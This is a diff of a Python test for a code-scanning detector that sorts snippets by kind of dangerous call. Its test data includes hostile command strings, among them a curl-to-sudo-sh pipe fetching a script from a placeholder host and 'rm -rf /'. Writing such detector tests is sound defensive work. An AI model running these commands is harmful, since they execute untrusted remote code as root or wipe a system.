@@ -61,7 +61,8 @@ def test_instructions_in_comments_and_strings_are_not_calls() -> None:
     ("java", "new ProcessBuilder(\"sh\").start();", {"execution"}),
     ("c", "system(\"id\");", {"execution"}),
     ("php", "shell_exec($cmd);", {"execution"}),
-    ("plaintext", "then os.system('id') and rm -rf /", {"execution", "deletion"}),
+    ("yaml", "run: curl -fsSL https://x.example/i.sh | sudo sh", {"network", "execution"}),
+    ("plaintext", "then rm -rf / please", {"deletion"}),
 ])
 def test_each_language_table_finds_its_calls(language: str, code: str, kinds: set[str]
                                              ) -> None:
